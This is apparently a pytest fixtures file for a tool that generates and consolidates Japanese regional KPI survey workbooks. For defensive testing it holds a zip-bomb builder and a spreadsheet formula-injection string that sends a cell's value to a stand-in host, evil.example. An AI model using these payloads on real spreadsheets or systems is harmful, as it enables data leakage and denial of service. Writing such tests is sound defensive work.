"""Shared fixtures: the bundled survey definitions, roster and generated workbooks."""
from __future__ import annotations

import datetime as dt
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
SAMPLES = ROOT / "samples"
SHARED = ROOT.parent / "shared"
CORPUS = SHARED / "corpus"  # the whole shared corpus: only where it is beside the checkout
FIXTURES = ROOT / "tests" / "fixtures" / "corpus"  # a few of its files, always here
FIXED_NOW = dt.datetime(2026, 11, 1, 9, 0, 0)


WINDOWS_EMULATION = ROOT / "tests" / "windows_emulation"  # a sitecustomize: no fork, pread, resource...


def _console() -> str:
    """The installed ``kpi-workbook``: $KPI_WORKBOOK_EXE, else the one beside this Python."""
    if os.environ.get("KPI_WORKBOOK_EXE"):
        return os.environ["KPI_WORKBOOK_EXE"]
    scripts = Path(sys.executable).parent
    found = [p for p in (scripts / "kpi-workbook", scripts / "kpi-workbook.exe") if p.exists()]
    return str(found[0] if found else scripts / "kpi-workbook")


CONSOLE = _console()


def run_console(*args, cwd=None, timeout=300, windows=False):
    """Run the installed command as a user does; *windows*: under the Windows emulation."""
    env = dict(os.environ, PYTHONIOENCODING="utf-8")
    env.pop("KPI_WORKBOOK_DEBUG", None)
    if windows:
        env["PYTHONPATH"] = os.pathsep.join(filter(None, [str(WINDOWS_EMULATION), env.get("PYTHONPATH")]))
    return subprocess.run([CONSOLE, *map(str, args)], capture_output=True, text=True, encoding="utf-8",
                          cwd=cwd, env=env, timeout=timeout, stdin=subprocess.DEVNULL)


def make_zip_bomb(path: Path, member_mb: int = 150) -> Path:
    """A small .xlsx whose sheet inflates to *member_mb* MB of zeros (sizes declared truthfully)."""
    import zipfile
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=False) as member:
            block = b"0" * (1 << 20)
            for _ in range(member_mb):
                member.write(block)
    return path


def soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


needs_soffice = pytest.mark.skipif(soffice() is None, reason="LibreOffice is not installed")


# Every finding any test makes, in this process or a forked child (pool workers, isolated
# reads), is logged by code: tests/test_zz_catalogue.py fails for a code no test produced.
FINDINGS_LOG = Path(os.environ.setdefault("KPI_WORKBOOK_TEST_FINDINGS_LOG", tempfile.mkstemp(
    prefix="kpi-workbook-findings-", suffix=".log")[1]))


def _record_findings() -> None:
    from kpi_workbook.core import findings

    made = findings.make
    if getattr(made, "recording", False):
        return

    def make(code, **fields):
        with open(FINDINGS_LOG, "a", encoding="utf-8") as log:
            log.write(code + "\n")
        return made(code, **fields)
    make.recording = True
    findings.make = make


_record_findings()


def pytest_sessionfinish(session, exitstatus):
    if os.getpid() == _SESSION_PID:
        FINDINGS_LOG.unlink(missing_ok=True)


_SESSION_PID = os.getpid()


@pytest.fixture(scope="session")
def renkei():
    from kpi_workbook.core.survey import load_survey
    return load_survey("renkei")


@pytest.fixture(scope="session")
def teiju():
    from kpi_workbook.core.survey import load_survey
    return load_survey("teiju")


@pytest.fixture(scope="session")
def roster_path():
    return SAMPLES / "roster.csv"


@pytest.fixture(scope="session")
def generated(tmp_path_factory, renkei, roster_path):
    """The sample roster's 連携中枢都市圏 workbooks, generated once per session."""
    from kpi_workbook.generation.workbooks import generate
    out = tmp_path_factory.mktemp("generated")
    result = generate(roster_path, renkei, out, now=FIXED_NOW)
    assert result.written
    return {p.name.split("_")[0]: p for p in result.written}


INJECTION = '=HYPERLINK("http://evil.example/"&A1,"click")'


def set_modified(path, stamp):
    """Rewrite the workbook's own modified time (what decides which resubmission wins)."""
    with zipfile.ZipFile(path) as zf:
        parts = {n: zf.read(n) for n in zf.namelist()}
    core = parts["docProps/core.xml"].decode()
    core = re.sub(r"(<dcterms:modified[^>]*>)[^<]*(<)", rf"\g<1>{stamp}\g<2>", core)
    parts["docProps/core.xml"] = core.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)


def teiju_roster(path: Path) -> Path:
    """Four 定住自立圏: T3 moved to 連携中枢都市圏 (移行済み), T4's vision not adopted (未策定)."""
    path.write_text("圏域コード,圏域名,圏域の種別,中心市,構成市町村,都道府県,移行状況,ビジョン策定状況\n"
                    "T1,一の定住自立圏,定住自立圏,一市,一市,A県,,策定済み\n"
                    "T2,二の定住自立圏,定住自立圏,二市,二市,B県,,策定済み\n"
                    "T3,三の定住自立圏,定住自立圏,三市,三市,C県,移行済み,策定済み\n"
                    "T4,四の定住自立圏,定住自立圏,四市,四市,D県,,未策定\n", encoding="utf-8")
    return path


def rows(ws):
    return [list(r) for r in ws.iter_rows(values_only=True)]


@pytest.fixture(scope="session")
def returns(generated, tmp_path_factory):
    """The sample returns (seeds' numbers), plus a resubmission, a foreign file, junk.
    Shared by the session: read it, never add to it (copy it first)."""
    from kpi_workbook.generation.fill import fill_workbook
    folder = tmp_path_factory.mktemp("returns")
    for answers in sorted((SAMPLES / "returns").glob("*.json")):
        data = json.loads(answers.read_text(encoding="utf-8"))
        path = fill_workbook(generated[answers.stem], data, folder / generated[answers.stem].name)
        set_modified(path, "2021-10-15T09:00:00Z")
    # 播磨 sends a corrected file later; the first one had a typo and an injected formula
    first = json.loads((SAMPLES / "returns" / "R02.json").read_text(encoding="utf-8"))
    first["KPI"][0]["目標値"] = "百八十四"
    first["KPI"][0]["指標名"] = INJECTION
    old = fill_workbook(generated["R02"], first, folder / "old" / "R02_初回.xlsx")
    set_modified(old, "2021-10-01T09:00:00Z")
    shutil.copy(FIXTURES / "xlsx-hostile" / "control_valid.xlsx", folder / "foreign.xlsx")
    (folder / "~$R01_熊本連携中枢都市圏.xlsx").write_bytes(b"lock")
    (folder / "readme.txt").write_text("memo", encoding="utf-8")
    return folder


@pytest.fixture
def plain_returns(generated, tmp_path):
    """Only the sample returns, named as generate names them."""
    from kpi_workbook.generation.fill import fill_workbook
    folder = tmp_path / "plain"
    for answers in sorted((SAMPLES / "returns").glob("*.json")):
        data = json.loads(answers.read_text(encoding="utf-8"))
        set_modified(fill_workbook(generated[answers.stem], data, folder / generated[answers.stem].name),
                     f"2021-10-1{answers.stem[-1]}T09:00:00Z")
    return folder


@pytest.fixture(scope="session")
def summary(returns, tmp_path_factory):
    """The sample round consolidated: (result, the summary opened by openpyxl, its folder)."""
    import openpyxl

    from kpi_workbook.consolidation.consolidate import consolidate
    out = tmp_path_factory.mktemp("summary")
    result = consolidate(returns, SAMPLES / "roster.csv", out / "summary.xlsx", csv_dir=out / "csv", jobs=2)
    return result, openpyxl.load_workbook(out / "summary.xlsx"), out


@pytest.fixture(scope="session")
def kumamoto_return(generated, tmp_path_factory):
    """熊本's sample return, filled as its clerk did."""
    from kpi_workbook.generation.fill import fill_workbook
    data = json.loads((SAMPLES / "returns" / "R01.json").read_text(encoding="utf-8"))
    return fill_workbook(generated["R01"], data, tmp_path_factory.mktemp("kumamoto") / generated["R01"].name)


def edited(path, target, change):
    """A copy of the workbook at *path* as *target*, *change* (book -> None) done by openpyxl."""
    import openpyxl
    book = openpyxl.load_workbook(path)
    change(book)
    Path(target).parent.mkdir(parents=True, exist_ok=True)
    book.save(target)
    return Path(target)


def codes(result) -> set:
    return {f.code for f in result.findings}



@pytest.fixture(scope="session")
def last_round(generated, tmp_path_factory):
    """Last round consolidated to CSVs (the sample returns), and this round generated from
    them: (the CSV folder, {region code: this round's pre-filled workbook})."""
    from kpi_workbook.consolidation.consolidate import consolidate
    from kpi_workbook.generation.fill import fill_workbook
    from kpi_workbook.generation.workbooks import generate
    base = tmp_path_factory.mktemp("rounds")
    for answers in sorted((SAMPLES / "returns").glob("*.json")):
        data = json.loads(answers.read_text(encoding="utf-8"))
        fill_workbook(generated[answers.stem], data, base / "round1" / generated[answers.stem].name)
    consolidate(base / "round1", SAMPLES / "roster.csv", base / "summary1.xlsx", csv_dir=base / "csv1", jobs=1)
    made = generate(SAMPLES / "roster.csv", "renkei", base / "round2", previous=base / "csv1", round_="令和9年度調査",
                    now=FIXED_NOW)
    return base / "csv1", {p.name.split("_")[0]: p for p in made.written}
